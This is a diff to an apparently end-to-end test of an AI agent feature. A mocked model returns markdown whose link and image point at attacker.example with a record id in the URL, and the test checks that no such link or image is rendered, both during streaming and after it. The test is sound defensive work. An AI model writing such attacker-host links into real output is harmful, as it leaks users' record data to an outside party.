@@ -7,6 +7,8 @@ import { launch, prefer, signInAsAtFirst, someBrowser, type Tandem, test } from 
 // A company of its own: the model that is set here is everybody's.
 let tandem: Tandem;
 let endpoint: Awaited<ReturnType<typeof openModelServer>>;
+// Its last words wait until the first ones were seen.
+const seen = Promise.withResolvers<void>();
 test.beforeAll(async () => {
   // It looks for what it was asked about, opens the first record that it was given, tries to change it, and answers.
   endpoint = await openModelServer(({ messages }) => {
@@ -24,6 +26,7 @@ test.beforeAll(async () => {
       };
     return {
       text: `The largest is [this one](/leads?id=${id}), **of those that you see**. [Elsewhere](https://attacker.example/?${id}) ![it](https://attacker.example/${id}.png) https://attacker.example/`,
+      holds: seen.promise,
     };
   });
   tandem = await launch(await freePort(), ["--demo"], undefined, { TANDEM_PRIVATE_HOSTS: "127.0.0.1" });
@@ -57,7 +60,13 @@ test("somebody asks the agents a question, from the tasks and from a lead: the a
   await clean(claire);
   await form.getByLabel("Question").press("Control+Enter");
   const task = claire.getByRole("complementary", { name: "Task for an agent" });
-  await expect(task.getByText("The largest is")).toBeVisible({ timeout: 30_000 });
+  await expect(task.getByText("Being written")).toBeVisible({ timeout: 30_000 });
+  await expect(task.getByText("The largest is")).toBeVisible();
+  await expect(task.getByText("Elsewhere")).toBeVisible();
+  await expect(task.locator("[href*='attacker'], [src*='attacker']")).toHaveCount(0);
+  await clean(claire);
+  seen.resolve();
+  await expect(task.getByText("Being written")).toBeHidden();
   // What a model writes leads nowhere else.
   await expect(task.getByText("Elsewhere")).toBeVisible();
   await expect(task.locator("[href*='attacker'], [src*='attacker']")).toHaveCount(0);
